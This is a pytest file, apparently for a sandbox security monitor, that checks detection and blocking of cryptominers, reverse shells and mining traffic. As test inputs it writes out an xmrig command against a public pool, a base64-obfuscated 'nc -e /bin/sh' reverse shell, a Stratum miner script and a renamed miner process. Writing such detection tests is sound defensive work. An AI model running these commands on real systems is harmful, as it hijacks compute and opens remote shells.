"""The runtime monitor inside real sandboxes: static analysis before a command, the exec
sensor, the gateway's flows and the GPU source feed the rules; responses act in enforce mode."""

from __future__ import annotations

import hashlib
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rollcage import Sandbox, SandboxConfig, WriteBlockedError
from rollcage.gateway.client import Gateway
from rollcage.monitor.gpu import SimulatedGpuSource
from rollcage.monitor.hub import use_gpu_source

from .test_gateway import Recorder

MINER_CONFIG = '{"pools": [{"url": "pool.supportxmr.com:3333", "user": "4Wallet"}]}'


@pytest.fixture
def recorder() -> Recorder:
    return Recorder()


def alerts(recorder: Recorder, **match: object) -> list[dict]:
    return recorder.of("alert", **match)


def test_enforce_blocks_a_miner_before_it_starts(recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(mode="enforce"), events=recorder, run_id="r1", episode_id="e1") as sb:
        r = sb.run("cd /tmp && ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4Wallet -p x", step=4)
        assert r.blocked and r.exit_code == 126
        assert "blocked by rule" in r.output and "cryptomining" in r.output
        assert sb.run("echo still usable", step=5).output == "still usable\n"
    found = alerts(recorder, category="cryptomining")
    assert found, recorder.events
    alert = found[0]
    assert (alert["step"], alert["run_id"], alert["episode_id"]) == (4, "r1", "e1")
    assert alert["severity"] == "critical" and "T1496" in alert["mitre"]
    assert alert["response"]["taken"] == "block"
    assert alert["evidence"][0]["type"] == "command"
    finished = recorder.of("command_finished", step=4)[0]
    assert finished["blocked"] is True  # the command never ran


def test_monitor_mode_records_but_does_not_act(recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(mode="monitor"), events=recorder) as sb:
        r = sb.run("xmrig --donate-level 1 -o pool.supportxmr.com:443", step=1)
        assert not r.blocked and r.exit_code == 127  # it ran (and was not found)
    found = alerts(recorder, category="cryptomining")
    assert found and all(a["response"]["taken"] == "none" for a in found)


def test_obfuscated_commands_are_seen_through(recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(mode="enforce"), events=recorder) as sb:
        # "nc -e /bin/sh 203.0.113.5 4444", base64-wrapped and piped to a shell
        r = sb.run("echo bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuNSA0NDQ0 | base64 -d | sh", step=2)
        assert r.blocked
    shells = alerts(recorder, category="reverse_shell")
    assert shells and shells[0]["step"] == 2


def test_enforce_refuses_to_write_a_miner_config(recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(mode="enforce"), events=recorder) as sb:
        with pytest.raises(WriteBlockedError, match="blocked by rule"):
            sb.write_file("/work/config.json", MINER_CONFIG)
        assert sb.run("test -e /work/config.json").exit_code == 1  # it never landed
    assert recorder.of("file") and alerts(recorder, category="cryptomining")


def test_a_script_and_the_config_it_hands_over_are_analysed(recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(mode="enforce"), events=recorder) as sb:
        with sb.trusted():  # already on disk, e.g. left by the task: only its use is judged
            sb.write_file("/work/config.json", MINER_CONFIG)
        sb.write_file("/work/start.sh", "#!/bin/sh\n./kworker -c config.json\n")
        r = sb.run("sh /work/start.sh", step=3)
        assert r.blocked, r.output
    found = alerts(recorder, category="cryptomining")
    assert found and found[0]["step"] == 3
    assert any(e.get("used_by") == "sh /work/start.sh" for e in recorder.of("file"))


def test_exec_sensor_kills_a_renamed_miner_by_hash(recorder: Recorder, tmp_path: Path) -> None:
    """A user rule file marks /bin/sleep's hash as a miner; a copy under another name dies."""
    digest = hashlib.sha256(Path("/bin/sleep").read_bytes()).hexdigest()
    rules = tmp_path / "miners.yaml"
    rules.write_text(f"- list: miner_sha256\n  items: [{digest}]\n  append: true\n")
    with Sandbox(SandboxConfig(mode="enforce", rules=(rules,)), events=recorder) as sb:
        sb.run("cp /bin/sleep /tmp/kworker", step=1)
        started = time.monotonic()
        sb.run("nohup /tmp/kworker 60 >/dev/null 2>&1 &", step=2)
        sb.run("echo later", step=3)
        deadline = started + 5
        while time.monotonic() < deadline and sb.run("pgrep -f kworker >/dev/null", step=3).exit_code == 0:
            time.sleep(0.05)
        assert sb.run("pgrep -f kworker", step=3).exit_code != 0, "the renamed miner is still running"
    hits = alerts(recorder, rule="Known miner binary hash")
    assert hits, [a["rule"] for a in alerts(recorder)]
    hit = hits[0]
    assert hit["step"] == 2 and hit["response"]["taken"] == "kill" and hit["pid"] in hit["response"]["pids"]
    assert hit["evidence"][0]["exe"] == "/tmp/kworker"


def test_stratum_on_the_wire_kills_the_background_miner(gateway: Gateway, recorder: Recorder, tmp_path: Path) -> None:
    """With the static rules that would refuse the script switched off, the wire layer must act."""
    static = ("Stratum protocol in code or config", "Stratum client in code", "Mining pool domain in command")
    rules = tmp_path / "wire-only.yaml"
    rules.write_text("".join(f"- rule: {name}\n  enabled: false\n" for name in static))
    miner = (
        "import socket, time\n"
        "for _ in range(100):\n"
        "    try:\n"
        "        s = socket.create_connection(('203.0.113.10', 3333), timeout=2)\n"
        '        s.sendall(b\'{"id":1,"method":"mining.subscribe","params":[]}\\n\'); s.recv(100)\n'
        "    except OSError:\n"
        "        time.sleep(0.2)\n"
    )
    config = SandboxConfig(mode="enforce", network=["pypi.org"], rules=(rules,))
    with Sandbox(config, gateway=gateway, events=recorder) as sb:
        sb.write_file("/work/job.py", miner)
        sb.run("nohup python3 /work/job.py >/dev/null 2>&1 &", step=1)
        sb.run("echo working on the task", step=2)
        stratum = recorder.wait(lambda e: e["type"] == "alert" and e["rule"] == "Stratum traffic", timeout=10)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and sb.run("pgrep -f job.py >/dev/null").exit_code == 0:
            time.sleep(0.05)
        assert sb.run("pgrep -f job.py").exit_code != 0
    assert stratum["step"] == 1  # the step that started the miner, not the one running when it spoke
    assert stratum["response"]["taken"] == "kill"
    flow = stratum["evidence"][0]
    assert flow["type"] == "flow" and flow["decision"] == "deny" and flow["cmdline"].startswith("python3 /work/job.py")


def test_freeze_response_stops_the_sandbox_where_it_stands(recorder: Recorder, tmp_path: Path) -> None:
    rules = tmp_path / "freeze.yaml"
    rules.write_text(
        "- rule: Freeze on marker\n  desc: test\n  condition: evt.type = exec and proc.name = sleep\n"
        "  output: sleep ran\n  priority: CRITICAL\n  category: policy_violation\n  action: freeze\n"
    )
    with Sandbox(SandboxConfig(mode="enforce", rules=(rules,)), events=recorder) as sb:
        sb.run("sleep 0.2 &")
        recorder.wait(lambda e: e["type"] == "alert" and e["rule"] == "Freeze on marker")
        assert sb.frozen
        r = sb.run("echo hi")
        assert r.blocked and "frozen" in r.output
    assert recorder.of("sandbox", action="frozen")


def test_simulated_gpu_use_by_an_unexpected_process_is_diversion(recorder: Recorder) -> None:
    source = SimulatedGpuSource()
    use_gpu_source(source)
    try:
        with Sandbox(SandboxConfig(mode="monitor", gpu_commands=("python3 train.py*",)), events=recorder) as sb:
            sb.run("nohup sleep 30 >/dev/null 2>&1 &")
            pid = _wait_for_process(sb, "sleep")
            source.add(pid, util=97.0, memory_bytes=8 * 1024**3)
            event = recorder.wait(lambda e: e["type"] == "gpu", timeout=5)
            assert event["expected"] is False and event["source"] == "simulated"
            recorder.wait(lambda e: e["type"] == "alert" and e["category"] == "gpu_diversion", timeout=5)
    finally:
        use_gpu_source(None)


def test_exec_events_carry_the_step_that_started_the_tree(recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(mode="monitor"), events=recorder) as sb:
        sb.run("nohup sh -c 'sleep 1; /bin/echo late-child' >/dev/null 2>&1 &", step=1)
        sb.run("sleep 1.5", step=2)
        late = recorder.wait(lambda e: e["type"] == "exec" and "late-child" in (e.get("cmdline") or ""))
        assert late["step"] == 1


def _wait_for_process(sb: Sandbox, comm: str, timeout: float = 5.0) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for pid in sb.pids():
            try:
                if Path(f"/proc/{pid}/comm").read_text().strip() == comm:
                    return pid
            except OSError:
                continue
        time.sleep(0.02)
    raise AssertionError(f"no {comm} process in the sandbox")


@pytest.fixture
def busy_sandbox(recorder: Recorder) -> Iterator[Sandbox]:
    with Sandbox(SandboxConfig(mode="monitor"), events=recorder) as sb:
        yield sb


def test_resource_samples_reach_the_rules(busy_sandbox: Sandbox, recorder: Recorder) -> None:
    busy_sandbox.run("timeout 2.5 sh -c 'while :; do :; done'")
    sample = recorder.wait(lambda e: e["type"] == "resource" and e["cpu_pct"] > 50, timeout=5)
    assert sample["memory_bytes"] > 0 and sample["pids"] >= 1
